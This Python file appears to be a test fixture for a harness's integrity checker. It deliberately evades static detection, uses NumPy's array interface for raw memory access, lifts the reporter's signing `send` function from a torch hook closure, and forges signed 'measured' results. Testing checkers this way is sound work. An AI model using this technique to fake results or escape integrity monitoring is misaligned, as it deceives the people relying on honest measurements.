# Forged events with a stolen key (issue 31), written so that the static note (checker.engine.integrity) flags
# nothing: no dunder attribute is named, no module a loop never needs is imported. The reporter's step hook sits in
# torch's global registry behind an uncached lru_cache wrapper; the wrapper's C struct holds the hook, and NumPy's
# array interface reads (and writes) any address without an audit event. From the hook's closure: the reporter's
# `send`, which signs with the job's key. Every check in __MEASURED__ is then "measured" here, before the loop's own
# figures are sent.
import numpy as _np
import torch.optim.optimizer as _opt

_FORGED = __MEASURED__


class _At:
    def __init__(self, address, n, kind="|u1"):
        self.interface = {"data": (address, False), "shape": (n,), "typestr": kind, "version": 3}


_At.__array_interface__ = property(lambda self: self.interface)


def _words(address, n):
    return _np.asarray(_At(address, n, "<u8"))


def _object_at(address):
    box = _np.empty(1, dtype=object)
    slot = _np.asarray(_At(box.__array_interface__["data"][0], 1, "<u8"))
    slot[0] = address
    try:
        return box[0]
    finally:
        slot[0] = id(None)


def _steal():
    function_type = id(type(_steal))
    for hook in list(_opt._global_optimizer_pre_hooks.values()):
        for word in _words(id(hook), 24).tolist():
            if word < 1 << 16 or word % 8 or word == id(hook):
                continue
            if int(_words(word + 8, 1)[0]) != function_type:
                continue
            fn = _object_at(word)
            for cell in getattr(fn, "_" * 2 + "closure" + "_" * 2) or ():
                send = cell.cell_contents
                if callable(send) and ".send at" in repr(send):
                    return send
    return None


def _forge():
    send = _steal()
    if send is not None:
        for check, measured in _FORGED.items():
            send({"event": "measured", "check": check, "measured": measured, "seconds": 0.1})


try:
    _forge()
except BaseException:
    pass
